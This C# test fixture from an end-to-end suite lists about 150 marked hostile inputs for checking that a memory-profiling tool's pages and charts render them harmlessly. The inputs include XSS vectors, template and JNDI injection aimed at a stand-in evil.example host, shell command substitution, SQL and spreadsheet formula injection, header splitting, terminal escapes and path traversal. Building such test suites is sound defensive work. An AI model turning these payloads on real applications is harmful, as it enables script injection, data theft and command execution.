using System.Globalization;
using System.Text;

namespace MemScope.EndToEnd.Tests.Hostile;

/// <summary>
/// What a hostile process would call itself. Each text carries its mark, <c>pwn000</c> to <c>pwn149</c>, by which it is found again wherever it comes out. A script of a payload would raise a
/// dialog or set <c>__pwned</c>; markup of a payload carries the mark in an attribute.
/// </summary>
internal static class Payloads
{
    /// <summary>What every mark begins with.</summary>
    public const string MarkStart = "pwn";

    private const string Mark = "§";

    /// <summary>Chars of this range stand for single bytes that are no UTF-8: U+DC80 is byte 0x80.</summary>
    private const int RawBytes = 0xDC00;

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Texts().Select((text, i) => text.Replace(Mark, MarkOf(i), StringComparison.Ordinal))];

    /// <summary>The marks of those that have one: four are names of JavaScript, which must stand alone to be dangerous.</summary>
    public static IReadOnlyList<string> Marked { get; } = [.. Texts().Select((text, i) => text.Contains(Mark, StringComparison.Ordinal) ? MarkOf(i) : "").Where(m => m.Length > 0)];

    /// <summary>Whether plotly would make something of it: it reads a little markup in every text that it draws.</summary>
    public static bool IsReadByCharts(string payload) => payload.Length > 3 && Plotly.Any(text => text[..3] == payload[..3] && text[0] == '<');

    /// <summary>The mark of a payload.</summary>
    public static string MarkOf(int number) => string.Create(CultureInfo.InvariantCulture, $"{MarkStart}{number:000}");

    /// <summary>A payload as a line may carry it where text must be printable: without control characters, and with single bytes as the replacement character.</summary>
    public static string Printable(string payload) => string.Concat(payload.Where(c => !char.IsControl(c)).Select(c => char.IsSurrogate(c) && IsRaw(c) ? '\ufffd' : c)).Trim();

    /// <summary>The bytes of a text in which chars of U+DC80 to U+DCFF stand for single bytes.</summary>
    public static byte[] Bytes(string text)
    {
        var bytes = new List<byte>(text.Length + 16);
        for (var i = 0; i < text.Length; i++)
        {
            if (IsRaw(text[i]) && (i == 0 || !char.IsHighSurrogate(text[i - 1]))) bytes.Add((byte)(text[i] - RawBytes));
            else if (char.IsHighSurrogate(text[i]) && i + 1 < text.Length) bytes.AddRange(Encoding.UTF8.GetBytes(text.Substring(i++, 2)));
            else bytes.AddRange(Encoding.UTF8.GetBytes(text[i].ToString()));
        }
        return [.. bytes];
    }

    private static bool IsRaw(char c) => c is >= '\udc80' and <= '\udcff';

    private static IEnumerable<string> Texts() => [.. Elements, .. Schemes, .. Breakouts, .. Templates, .. Plotly, .. Styles, .. Encodings, .. Formulas, .. Markdown, .. Headers, .. Names, .. Paths];

    private static string[] Elements =>
    [
        "<script>alert('§')</script>", "<SCRIPT SRC=//evil.example/§.js></SCRIPT>", "<scr<script>ipt>alert('§')</scr</script>ipt>", "<script/§>alert(1)</script>", "</script><script>__pwned='§'</script>",
        "<img src=x onerror=alert('§')>", "<img src=\"x`§\" onerror=__pwned=1>", "<IMG SRC=/ data-§ ONERROR=\"alert(1)\">", "<img/src/onerror=alert('§')//", "<image src=x onerror=alert('§')>",
        "<svg onload=alert('§')>", "<svg/onload=__pwned='§'>", "<svg><script>alert('§')</script></svg>", "<svg><animate onbegin=alert('§') attributeName=x dur=1s>", "<svg><set onbegin=alert('§') attributeName=x>",
        "<svg><a xlink:href=\"javascript:alert('§')\"><text y=9>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='§' onload='alert(1)'/>#§\"/></svg>", "<svg><foreignObject><body onload=alert('§')>",
        "<math><mtext></form><form><mglyph><style></math><img src=§ onerror=alert(1)>", "<math href=\"javascript:alert('§')\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert('§')>x",
        "<iframe src=\"javascript:alert('§')\"></iframe>", "<iframe srcdoc=\"<script>parent.__pwned='§'</script>\">", "<object data=\"data:text/html,<script>alert('§')</script>\"></object>", "<embed src=//evil.example/§.swf>",
        "<body onload=alert('§')>", "<input autofocus onfocus=alert('§')>", "<select autofocus onfocus=alert('§')>", "<textarea autofocus onfocus=alert('§')>", "<details open ontoggle=alert('§')>x</details>",
        "<video><source onerror=alert('§')></video>", "<audio src=x onerror=alert('§')>", "<marquee onstart=alert('§')>x</marquee>", "<form action=//evil.example/§><button>x</button></form>", "<button formaction=javascript:alert('§')>x</button>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/§\">", "<base href=//evil.example/§/>", "<link rel=stylesheet href=//evil.example/§.css>", "<template><img src=§ onerror=alert(1)></template>",
        "<noscript><p title=\"</noscript><img src=§ onerror=alert(1)>\">", "<x-§ onclick=alert(1) tabindex=0 id=x>x</x-§>", "<portal src=javascript:alert('§')>", "<dialog open onclose=alert('§')>x</dialog>", "<keygen autofocus onfocus=alert('§')>",
    ];

    private static string[] Schemes =>
    [
        "javascript:alert('§')", "JaVaScRiPt:alert('§')", "java\tscript:alert('§')", " javascript:alert('§')", "vbscript:msgbox('§')", "data:text/html,<script>alert('§')</script>", "data:text/html;base64,PHNjcmlwdD4=§",
        "<a href=javascript:alert('§')>x</a>", "<a href=\"jav&#x09;ascript:alert('§')\">x</a>", "//evil.example/§", "https://evil.example/§?a=1&b=2", "blob:https://evil.example/§", "view-source:§", "file:///etc/§",
    ];

    private static string[] Breakouts =>
    [
        "\"><script>alert('§')</script>", "'><img src=§ onerror=alert(1)>", "\" onmouseover=\"alert('§')\" x=\"", "' onfocus='alert(`§`)' autofocus '", "`onerror=alert('§')`", "x\" data-§=\"1", "-->\"'></style></title></textarea><script>alert('§')</script>",
        "]]><script>alert('§')</script>", "--><img src=§ onerror=alert(1)>", "</title><svg onload=alert('§')>", "</textarea><img src=§ onerror=alert(1)>", "\\\";alert('§');//", "');alert('§');//", "</td></tr></table><script>alert('§')</script>",
    ];

    private static string[] Templates =>
    [
        "{{7*7}}§", "{{constructor.constructor('alert(\"§\")')()}}", "${alert('§')}", "#{7*7}§", "<%= alert('§') %>", "@(alert('§'))", "@{System.Environment.Exit(§);}", "{0}{1}§{2}", "%s%n%x§", "$(touch /tmp/§)", "`touch /tmp/§`", "${jndi:ldap://evil.example/§}",
        "'; DROP TABLE process; --§", "\" OR \"\"=\"§",
    ];

    private static string[] Plotly =>
    [
        "<a href=\"https://evil.example/§\">click</a>", "<b>§</b>", "<i>§</i><br>two lines", "<sub>§</sub><sup>2</sup>", "<span style=\"fill:red\">§</span>", "<a href=\"javascript:alert('§')\">x</a>", "<b onclick=alert('§')>x</b>", "%{y}§%{fullData.name}<extra>§</extra>", "$\\href{javascript:alert('§')}{x}$",
        "&lt;b&gt;§&lt;/b&gt;",
    ];

    private static string[] Styles =>
    [
        "<style>*{display:none}/*§*/</style>", "<style>@import '//evil.example/§.css'</style>", "x;background:url(//evil.example/§)", "expression(alert('§'))", "<div style=position:fixed;inset:0 data-§>x</div>", "red}body{display:none}§{",
    ];

    private static string[] Encodings =>
    [
        "+ADw-script+AD4-alert('§')+ADw-/script+AD4-", "\udcc0\udcbcscript\udcc0\udcbealert('§')", "\udce0\udc80\udcbcimg src=§ onerror=alert(1)\udce0\udc80\udcbe", "&lt;script&gt;alert('§')&lt;/script&gt;", "&#60;img src=§ onerror=alert(1)&#62;", "%3Cscript%3Ealert('§')%3C/script%3E",
        "\\u003cscript\\u003ealert('§')\\u003c/script\\u003e", "\uff1cscript\uff1ealert('§')\uff1c/script\uff1e", "\u202e>'§'=rorreno x=crs gmi<", "a\u2066b\u2069§\u202d", "a\u200bb\u200cc\u200d§\ufeff", "§\u2028x\u2029y", "nul\0§<img src=x onerror=alert(1)>",
        "two\nlines §<svg onload=alert(1)>", "re\rturn §<svg onload=alert(1)>", "\ud83d\udca5§\ud83d\udc80", "Z\u0351\u036b\u0343a\u0310\u0346§", "\udcff\udcfe§<img src=x onerror=alert(1)>",
    ];

    private static string[] Formulas => ["=cmd|' /C calc'!A0§", "+1+1§", "-2+3+cmd|' /C §'!A0", "@SUM(1+1)*§", "=HYPERLINK(\"http://evil.example/§\",\"x\")", "\t=1+1§", "\r=1+1§"];

    private static string[] Markdown =>
    [
        "[§](javascript:alert(1))", "![§](http://evil.example/x.png)", "<https://evil.example/§>", "**§**_x_~~y~~", "```\n§\n```", "# §", "| § | x |\n|---|---|", "[§]: http://evil.example/ \"x\"", "@everyone §", "`` ` §",
    ];

    private static string[] Headers => ["§\r\nSet-Cookie: pwn=1", "§\r\n\r\n<script>alert(1)</script>", "\u001b]0;§\u0007\u001b[2J\u001b[31m", "\u001b]8;;http://evil.example/§\u0007x\u001b]8;;\u0007"];

    private static string[] Names => ["__proto__", "constructor", "toString", "hasOwnProperty", "__proto__[polluted]=§"];

    private static string[] Paths => ["../../../../etc/§", "..\\..\\windows\\§", "/proc/self/environ/§", "C:\\§\\con"];
}
